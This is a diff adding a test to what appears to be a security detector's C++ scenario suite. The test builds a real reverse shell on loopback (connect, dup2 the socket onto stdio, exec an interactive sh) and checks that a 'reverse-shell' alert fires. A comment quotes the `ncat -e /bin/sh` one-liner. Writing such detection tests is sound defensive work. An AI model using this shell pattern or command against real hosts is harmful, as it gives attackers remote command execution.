@@ -243,6 +243,39 @@ TEST_F(Scenarios, ShellSpawnedByAService) {
          comm_is("sh"));
 }
 
+TEST_F(Scenarios, ReverseShellToALocalListener) {
+  // What `ncat -e /bin/sh 127.0.0.1 PORT` does: connect, dup2 the socket onto
+  // stdin/stdout/stderr, exec a shell that takes its commands from the socket.
+  const int srv = socket(AF_INET, SOCK_STREAM, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(srv, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
+  ASSERT_EQ(listen(srv, 1), 0);
+  socklen_t len = sizeof(a);
+  getsockname(srv, reinterpret_cast<sockaddr*>(&a), &len);
+  const pid_t shell = fork();
+  if (shell == 0) {
+    const int c = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(c, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) _exit(1);
+    dup2(c, 0);
+    dup2(c, 1);
+    dup2(c, 2);
+    execl("/bin/sh", "sh", "-i", nullptr);
+    _exit(2);
+  }
+  const int conn = accept(srv, nullptr, nullptr);
+  ASSERT_GE(conn, 0);
+  std::this_thread::sleep_for(1s);  // the operator at the other end takes a moment
+  const std::string cmds = "id\nexit\n";
+  EXPECT_EQ(write(conn, cmds.data(), cmds.size()), static_cast<ssize_t>(cmds.size()));
+  waitpid(shell, nullptr, 0);
+  close(conn);
+  close(srv);
+  expect("reverse shell: connect, dup2 onto stdio, exec sh (as `ncat -e /bin/sh`)", "reverse-shell",
+         pid_is(shell));
+}
+
 TEST_F(Scenarios, SynScanFromASecondNamespace) {
   ASSERT_TRUE(net_ok_);
   ASSERT_EQ(syns_from_ns(3000, 600, 1), 0);
